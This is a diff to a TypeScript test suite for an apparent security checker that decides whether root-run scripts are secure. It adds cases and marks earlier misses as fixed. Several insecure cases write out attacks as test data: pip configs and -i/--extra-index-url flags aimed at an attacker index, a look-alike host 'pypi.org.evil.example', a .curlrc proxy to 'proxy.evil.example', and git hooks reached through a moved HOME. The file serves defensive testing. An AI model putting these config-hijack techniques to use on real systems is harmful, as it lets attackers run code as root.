@@ -209,7 +209,7 @@ const insecure: NodeCase[] = [
     ),
     // A Python program writing pip's configuration where pip reads it from a moved HOME (pip docs "Configuration":
     // $HOME/.config/pip/pip.conf), /var/lib/ops being the program's own state directory.
-    // MISS: (HOME-MOVED-CONFIG) insecure accepted, got []. pip docs "Configuration" (User): "$HOME/.config/pip/pip.conf": with HOME=/var/lib/ops pip reads the index
+    // Was a MISS (fixed in round 81): (HOME-MOVED-CONFIG) insecure accepted, got []. pip docs "Configuration" (User): "$HOME/.config/pip/pip.conf": with HOME=/var/lib/ops pip reads the index
     // the root program wrote there; tenacity comes from the attacker's index and run.py imports it as root. The pack: a root Python program may write its own
     // state directory (PROGRAM_DATA_PATHS, pythonCode.ts pythonWriteRefusal: /var/lib/<app>/), and pip trust
     // (pythonCode.ts pythonPipInstalled/scriptPipModules) looks only at files user data itself wrote (view.written) and
@@ -234,10 +234,9 @@ const insecure: NodeCase[] = [
             "python3 /opt/ops/run.py",
         ]),
         REFUSED,
-        true,
     ),
     // pathlib docs "Path.write_text"; the same file through pathlib, and HOME exported before pip (bash(1) export).
-    // MISS: (HOME-MOVED-CONFIG) insecure accepted, got []. pip docs "Configuration": legacy "$HOME/.pip/pip.conf" written with pathlib, HOME exported
+    // Was a MISS (fixed in round 81): (HOME-MOVED-CONFIG) insecure accepted, got []. pip docs "Configuration": legacy "$HOME/.pip/pip.conf" written with pathlib, HOME exported
     // (bash(1) export) before pip: the attacker's index serves tenacity, imported by root. The pack: a root Python program may write its own
     // state directory (PROGRAM_DATA_PATHS, pythonCode.ts pythonWriteRefusal: /var/lib/<app>/), and pip trust
     // (pythonCode.ts pythonPipInstalled/scriptPipModules) looks only at files user data itself wrote (view.written) and
@@ -263,12 +262,11 @@ const insecure: NodeCase[] = [
             "python3 /opt/ops/run.py",
         ]),
         REFUSED,
-        true,
     ),
     // git-config(1) FILES: "$HOME/.gitconfig" is git's user configuration; core.fsmonitor: "If set to ... a command",
     // git runs it as a hook on status: a root program's file in its own state directory becomes root's command when
     // git runs with HOME moved there.
-    // MISS: (HOME-MOVED-CONFIG) insecure accepted, got []. git-config(1) FILES "$HOME/.gitconfig" and core.fsmonitor (a command git runs
+    // Was a MISS (fixed in round 81): (HOME-MOVED-CONFIG) insecure accepted, got []. git-config(1) FILES "$HOME/.gitconfig" and core.fsmonitor (a command git runs
     // as a hook): a root program's file becomes root's command line when git runs with HOME=/var/lib/ops. The pack: a root Python program may write its own
     // state directory (PROGRAM_DATA_PATHS, pythonCode.ts pythonWriteRefusal: /var/lib/<app>/), and pip trust
     // (pythonCode.ts pythonPipInstalled/scriptPipModules) looks only at files user data itself wrote (view.written) and
@@ -290,7 +288,6 @@ const insecure: NodeCase[] = [
             "HOME=/var/lib/ops git -C /opt/ops/repo status",
         ]),
         REFUSED,
-        true,
     ),
     // ===== B0. pip spellings followed by an import =====
     dev(
@@ -533,6 +530,64 @@ const insecure: NodeCase[] = [
         ]),
         REFUSED,
     ),
+    // Round 81 neighbours (HOME-MOVED-CONFIG): a root program's write of a dotfile below a HOME user data gives a
+    // command is a write into root-read configuration (pip docs "Configuration" "$HOME/.config/pip/pip.conf"; curl(1)
+    // "$HOME/.curlrc"; git-config(1) FILES "$HOME/.gitconfig").
+    dev(
+        "tune.py writes /var/lib/ops/.curlrc (evil proxy); env HOME=/var/lib/ops curl -fsSL https://ops.example/x",
+        sh("dev-py81-py-writes-home-curlrc-fix81", [
+            ...heredocFile("/opt/ops/tune.py", [
+                'with open("/var/lib/ops/.curlrc", "w") as f:',
+                '    f.write("proxy = http://proxy.evil.example:3128\\n")',
+            ]),
+            "python3 /opt/ops/tune.py",
+            "env HOME=/var/lib/ops curl -fsSL -o /var/cache/ops/x https://ops.example/x",
+        ]),
+        REFUSED,
+    ),
+    // pip reads $HOME/.config/pip/pip.conf from an exported HOME (bash(1) export) as `python3 -m pip` too: the trust
+    // of a default-index install is withdrawn once HOME is moved.
+    dev(
+        "tune.py open().write .config/pip/pip.conf; export HOME=/var/lib/ops; python3 -m pip install tenacity; run.py",
+        sh("dev-py81-unit-home-pip-conf-fix81", [
+            ...heredocFile("/opt/ops/tune.py", [
+                "import os",
+                'os.makedirs("/var/lib/ops/.config/pip", exist_ok=True)',
+                `open("/var/lib/ops/.config/pip/pip.conf", "w").write("[global]\\nindex-url = ${EVIL}\\n")`,
+            ]),
+            "python3 /opt/ops/tune.py",
+            "export HOME=/var/lib/ops",
+            "python3 -m pip install tenacity",
+            ...heredocFile("/opt/ops/run.py", ["import tenacity", "print(tenacity.__name__)"]),
+            "python3 /opt/ops/run.py",
+        ]),
+        REFUSED,
+    ),
+    // Round 81 neighbours (PIP-DEFAULT-INDEX-NAMED): pip's options parser keeps the last -i (pip docs "pip install"
+    // -i: one index URL), so the default named first and another after is the other; --only-binary with an extra
+    // index ("--extra-index-url: Extra URLs of package indexes to use in addition to --index-url") adds a source.
+    dev(
+        "user data: pip3 install -i https://pypi.org/simple -i evil tenacity; run.py imports",
+        thenImport("dev-py81-default-then-evil-index-fix81", [
+            `pip3 install -i https://pypi.org/simple -i ${EVIL} tenacity`,
+        ]),
+        REFUSED,
+    ),
+    dev(
+        "user data: pip3 install --only-binary :all: --extra-index-url evil tenacity; run.py imports",
+        thenImport("dev-py81-only-binary-extra-index-fix81", [
+            `pip3 install --only-binary :all: --extra-index-url ${EVIL} tenacity`,
+        ]),
+        REFUSED,
+    ),
+    // A look-alike host with the default's path (RFC 3986 3.2.2: the host is pypi.org.evil.example).
+    dev(
+        "user data: pip3 install --index-url=https://pypi.org.evil.example/simple tenacity; run.py imports",
+        thenImport("dev-py81-lookalike-index-eq-fix81", [
+            "pip3 install --index-url=https://pypi.org.evil.example/simple tenacity",
+        ]),
+        REFUSED,
+    ),
 ];
 
 const secure: NodeCase[] = [
@@ -542,7 +597,7 @@ const secure: NodeCase[] = [
         thenImport("dev-py81-default-install-import-rt81p", ["pip3 install tenacity"]),
     ),
     // Secure: pip docs "pip install" --index-url default https://pypi.org/simple, named; run.py imports tenacity.
-    // MISS: (PIP-DEFAULT-INDEX-NAMED) secure refused: "run.py imports tenacity, a module user data did not write and the
+    // Was a MISS (fixed in round 81): (PIP-DEFAULT-INDEX-NAMED) secure refused: "run.py imports tenacity, a module user data did not write and the
     // pack does not know". pip docs "pip install" -i/--index-url: "Base URL of the Python Package Index (default
     // https://pypi.org/simple)": naming the default changes nothing. The pack: pythonCode.ts scriptPipModules: -i /
     // --index-url is not in PIP_PLAIN_OPTIONS, so the install is untrusted. Fix: an index option whose URL is, after RFC
@@ -552,8 +607,6 @@ const secure: NodeCase[] = [
         thenImport("dev-py81-explicit-pypi-import-rt81p", [
             "pip3 install --index-url https://pypi.org/simple tenacity",
         ]),
-        undefined,
-        true,
     ),
     // Secure: /etc/pip.conf with only timeout/disable-pip-version-check (pip docs "Configuration": names from long options).
     // MISS: (PIP-CONF-HARMLESS) secure refused: "run.py imports tenacity, a module user data did not write". pip docs "Configuration": a file's keys are pip's long option
@@ -563,6 +616,7 @@ const secure: NodeCase[] = [
     // for keys that choose where packages come from (index-url, extra-index-url, find-links, no-index, trusted-host,
     // cert, client-cert, proxy, require-hashes off, constraint, requirement, editable, src, target, prefix, root, user,
     // config-file); an unparsable file fails closed.
+    // Still open (round 81): not reached before the deadline; needs a configparser reading of a written pip.conf (keys that choose no source keep trust) shared by pythonPipInstalled and rootWrites.ts, failing closed on anything unreadable.
     dev(
         "user data: /etc/pip.conf [global] timeout = 60; pip3 install tenacity; run.py imports",
         thenImport("dev-py81-etc-pip-conf-timeout-rt81p", [
@@ -578,6 +632,7 @@ const secure: NodeCase[] = [
     // naming a pod-writable path whatever program it prefixes and whatever its flags. Fix: judge an interpreter's
     // variables through the interpreter's own reading of them (pythonEnvironment already knows -E/-I/-s): PYTHON*
     // dropped under -E/-I, HOME's user site dropped under -s/-I, for a program that runs no other command.
+    // Still open (round 81): not reached before the deadline; needs RootReads.command's assignment loop to take PYTHON*/HOME through pythonEnvironment's reading of -E/-I/-s (one source of truth), a shared-file change in rootReads.ts.
     dev(
         "user data: PYTHONPATH=/srv/ops python3 -I tune.py",
         tune("dev-py81-pythonpath-I-rt81p", PLAIN, [], "PYTHONPATH=/srv/ops python3 -I /opt/ops/tune.py"),
@@ -590,6 +645,7 @@ const secure: NodeCase[] = [
     // naming a pod-writable path whatever program it prefixes and whatever its flags. Fix: judge an interpreter's
     // variables through the interpreter's own reading of them (pythonEnvironment already knows -E/-I/-s): PYTHON*
     // dropped under -E/-I, HOME's user site dropped under -s/-I, for a program that runs no other command.
+    // Still open (round 81): not reached before the deadline; needs RootReads.command's assignment loop to take PYTHON*/HOME through pythonEnvironment's reading of -E/-I/-s (one source of truth), a shared-file change in rootReads.ts.
     dev(
         "user data: PYTHONHOME=/mnt/py python3 -E tune.py",
         tune("dev-py81-pythonhome-E-rt81p", PLAIN, [], "PYTHONHOME=/mnt/py python3 -E /opt/ops/tune.py"),
@@ -621,7 +677,7 @@ const secure: NodeCase[] = [
     ),
     // Secure: pip docs "pip install" --only-binary :all: ("Do not use source packages"): wheels only, from the default
     // index (narrower than a plain install).
-    // MISS: (PIP-DEFAULT-INDEX-NAMED, option allowlist) secure refused: "run.py imports tenacity, a module user data did
+    // Was a MISS (fixed in round 81): (PIP-DEFAULT-INDEX-NAMED, option allowlist) secure refused: "run.py imports tenacity, a module user data did
     // not write and the pack does not know". pip docs "pip install" --only-binary: "Do not use source packages": the
     // same index, fewer kinds of files. The pack: pythonCode.ts scriptPipModules: --only-binary is not in
     // PIP_PLAIN_OPTIONS. Fix: review pip's options by effect (source-choosing options withdraw trust; --only-binary,
@@ -629,8 +685,6 @@ const secure: NodeCase[] = [
     dev(
         "user data: pip3 install --only-binary :all: tenacity==8.2.3; run.py imports",
         thenImport("dev-py81-pip-only-binary-import-rt81p", ["pip3 install --only-binary :all: tenacity==8.2.3"]),
-        undefined,
-        true,
     ),
     // Secure: pip docs "pip install" --target ("Install packages into <dir>") under /opt (root's own) and PYTHONPATH
     // naming it (Python docs "PYTHONPATH").
@@ -640,6 +694,7 @@ const secure: NodeCase[] = [
     // is searched first. The pack: pythonCode.ts scriptPipModules skips --target installs (not plain) and the import-path
     // reader then counts the whole target as unknown content. Fix: a default-index install with --target DIR puts the
     // names it installs (their top-level modules) at DIR: trusted there when nothing else writes DIR.
+    // Still open (round 81): not reached before the deadline; needs scriptPipModules to record a trusted --target DIR install and the import path to accept DIR when nothing else writes it.
     dev(
         "user data: pip3 install --target /opt/ops/lib tenacity; PYTHONPATH=/opt/ops/lib python3 run.py",
         sh("dev-py81-pip-target-opt-rt81p", [
@@ -662,6 +717,7 @@ const secure: NodeCase[] = [
     // naming a pod-writable path whatever program it prefixes and whatever its flags. Fix: judge an interpreter's
     // variables through the interpreter's own reading of them (pythonEnvironment already knows -E/-I/-s): PYTHON*
     // dropped under -E/-I, HOME's user site dropped under -s/-I, for a program that runs no other command.
+    // Still open (round 81): not reached before the deadline; needs RootReads.command's assignment loop to take PYTHON*/HOME through pythonEnvironment's reading of -E/-I/-s (one source of truth), a shared-file change in rootReads.ts.
     dev(
         "user data: PYTHONPATH=/srv/ops python3 -E tune.py",
         tune("dev-py81-pythonpath-E-rt81p", PLAIN, [], "PYTHONPATH=/srv/ops python3 -E /opt/ops/tune.py"),
@@ -675,6 +731,7 @@ const secure: NodeCase[] = [
     // naming a pod-writable path whatever program it prefixes and whatever its flags. Fix: judge an interpreter's
     // variables through the interpreter's own reading of them (pythonEnvironment already knows -E/-I/-s): PYTHON*
     // dropped under -E/-I, HOME's user site dropped under -s/-I, for a program that runs no other command.
+    // Still open (round 81): not reached before the deadline; needs RootReads.command's assignment loop to take PYTHON*/HOME through pythonEnvironment's reading of -E/-I/-s (one source of truth), a shared-file change in rootReads.ts.
     dev(
         "user data: HOME=/srv/ops python3 -s tune.py",
         tune("dev-py81-home-srv-s-rt81p", PLAIN, [], "HOME=/srv/ops python3 -s /opt/ops/tune.py"),
@@ -687,6 +744,7 @@ const secure: NodeCase[] = [
     // naming a pod-writable path whatever program it prefixes and whatever its flags. Fix: judge an interpreter's
     // variables through the interpreter's own reading of them (pythonEnvironment already knows -E/-I/-s): PYTHON*
     // dropped under -E/-I, HOME's user site dropped under -s/-I, for a program that runs no other command.
+    // Still open (round 81): not reached before the deadline; needs RootReads.command's assignment loop to take PYTHON*/HOME through pythonEnvironment's reading of -E/-I/-s (one source of truth), a shared-file change in rootReads.ts.
     dev(
         "user data: HOME=/mnt/ops PYTHONPATH=/mnt/ops python3 -I tune.py",
         tune("dev-py81-home-mnt-I-rt81p", PLAIN, [], "HOME=/mnt/ops PYTHONPATH=/mnt/ops python3 -I /opt/ops/tune.py"),
@@ -718,6 +776,7 @@ const secure: NodeCase[] = [
     // any ctypes use as unread code). Fix: ctypes.CDLL/cdll.LoadLibrary/PyDLL of a literal soname (no slash) or of
     // ctypes.util.find_library(literal), with no LD_LIBRARY_PATH/LD_PRELOAD in its environment and no file user data or
     // a program wrote under the loader's directories, is a read of the system library (a path argument judged as a read).
+    // Still open (round 81): not reached before the deadline; needs pythonDynamic to read ctypes.CDLL/find_library of a literal soname as a system library read when no loader variable or written loader directory is in play.
     dev(
         "tune.py: ctypes.CDLL('libc.so.6').getpid()",
         tune("dev-py81-ctypes-libc-rt81p", ["import ctypes", 'print(ctypes.CDLL("libc.so.6").getpid())']),
@@ -732,6 +791,7 @@ const secure: NodeCase[] = [
     // any ctypes use as unread code). Fix: ctypes.CDLL/cdll.LoadLibrary/PyDLL of a literal soname (no slash) or of
     // ctypes.util.find_library(literal), with no LD_LIBRARY_PATH/LD_PRELOAD in its environment and no file user data or
     // a program wrote under the loader's directories, is a read of the system library (a path argument judged as a read).
+    // Still open (round 81): not reached before the deadline; needs pythonDynamic to read ctypes.CDLL/find_library of a literal soname as a system library read when no loader variable or written loader directory is in play.
     dev(
         "tune.py: ctypes.CDLL(ctypes.util.find_library('c'))",
         tune("dev-py81-ctypes-find-library-rt81p", [
@@ -783,6 +843,7 @@ const secure: NodeCase[] = [
     // for keys that choose where packages come from (index-url, extra-index-url, find-links, no-index, trusted-host,
     // cert, client-cert, proxy, require-hashes off, constraint, requirement, editable, src, target, prefix, root, user,
     // config-file); an unparsable file fails closed.
+    // Still open (round 81): not reached before the deadline; needs a configparser reading of a written pip.conf (keys that choose no source keep trust) shared by pythonPipInstalled and rootWrites.ts, failing closed on anything unreadable.
     dev(
         "user data: /root/.pip/pip.conf [global] timeout = 60; pip3 install tenacity",
         sh("dev-py81-legacy-pip-conf-timeout-rt81p", [
@@ -791,6 +852,38 @@ const secure: NodeCase[] = [
         ]),
         undefined,
         true,
+    ),
+    // Round 81 neighbours (HOME-MOVED-CONFIG, secure): a root program writing its own state file (not a dotfile) in
+    // the directory a later command has as HOME (FHS 3.0 /var/lib/<app> "State information"); a dotfile written under
+    // a directory no command has as HOME.
+    dev(
+        "tune.py writes /var/lib/ops/state.json; HOME=/var/lib/ops python3 /opt/ops/report.py",
+        sh("dev-py81-home-state-file-fix81", [
+            ...heredocFile("/opt/ops/tune.py", [
+                "import json",
+                'with open("/var/lib/ops/state.json", "w") as f:',
+                '    json.dump({"ok": 1}, f)',
+            ]),
+            "python3 /opt/ops/tune.py",
+            ...heredocFile("/opt/ops/report.py", PLAIN),
+            "HOME=/var/lib/ops python3 /opt/ops/report.py",
+        ]),
+    ),
+    dev(
+        "tune.py writes /var/lib/ops/.state; HOME=/root elsewhere",
+        sh("dev-py81-dotfile-not-home-fix81", [
+            ...heredocFile("/opt/ops/tune.py", ['with open("/var/lib/ops/.state", "w") as f:', '    f.write("ok\\n")']),
+            "export HOME=/root",
+            "python3 /opt/ops/tune.py",
+        ]),
+    ),
+    // Round 81 neighbour (PIP-DEFAULT-INDEX-NAMED, secure): the default index spelled with the scheme and host in
+    // capitals, the default port and a trailing slash (RFC 3986 6.2.2.1 case, 6.2.3 scheme-based normalisation).
+    dev(
+        "user data: pip3 install -i HTTPS://PyPI.org:443/simple/ --only-binary=:all: tenacity; run.py imports",
+        thenImport("dev-py81-default-index-normalised-fix81", [
+            "pip3 install -i HTTPS://PyPI.org:443/simple/ --only-binary=:all: tenacity",
+        ]),
     ),
 ];
 
